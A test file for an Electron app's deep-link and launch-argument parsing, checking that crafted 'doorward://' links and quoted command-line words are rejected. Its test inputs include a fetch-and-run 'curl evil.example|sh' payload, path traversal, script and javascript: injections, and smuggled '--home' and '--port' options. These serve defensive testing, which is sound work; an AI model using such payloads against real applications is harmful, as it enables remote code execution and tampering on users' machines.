import { describe, expect, it } from 'vitest';
import { parseLink } from '../../electron/shell/deep-links.ts';
import { readArguments } from '../../electron/shell/launch-arguments.ts';

/** Every web page can open a `doorward://` link without a word from the person. */
describe('a link that wants more than to show a screen', () => {
  it.each([
    'doorward://server/add?command=curl%20evil.example|sh',
    'doorward://add/evil',
    'doorward://open/servers?add=evil',
    'doorward://open/servers#approve',
    'doorward://open/servers/evil/approve',
    'doorward://open/approve',
    'doorward://open/apps/..%2f..%2fevil',
    'doorward://open/apps/%3Cscript%3E',
    `doorward://open/activity/${'a'.repeat(81)}`,
    'doorward://open',
    'doorward://open/',
    'doorward:open/servers',
    'doorward://user@open/servers',
    'doorward://open:80/servers',
    'doorward://approve/servers',
    'doorward://OPEN.evil/servers',
    'https://open/servers',
    'javascript:alert(1)',
    `doorward://open/servers/${'x'.repeat(500)}`,
    'doorward://open/servers/a b',
    '',
  ])('means nothing: %s', (url) => {
    expect(parseLink(url)).toBeUndefined();
  });

  it('yields nothing but a screen and a plain name', () => {
    expect(parseLink('doorward://open/servers/files')).toEqual({ screen: 'servers', item: 'files' });
  });
});

/** On Windows and Linux the link is a word of the command line, quoted by whoever starts the app. */
describe('a link on the command line', () => {
  it('brings no options along', () => {
    expect(
      readArguments(['doorward://open/apps" ', '--home', String.raw`C:\evil`, '--self-test', '--port=1']),
    ).toEqual({
      home: undefined,
      port: undefined,
      hidden: false,
      selfTest: false,
      link: 'doorward://open/apps" ',
    });
    expect(readArguments(['DoorWard:x', '--hidden'])).toMatchObject({ hidden: false });
  });
});
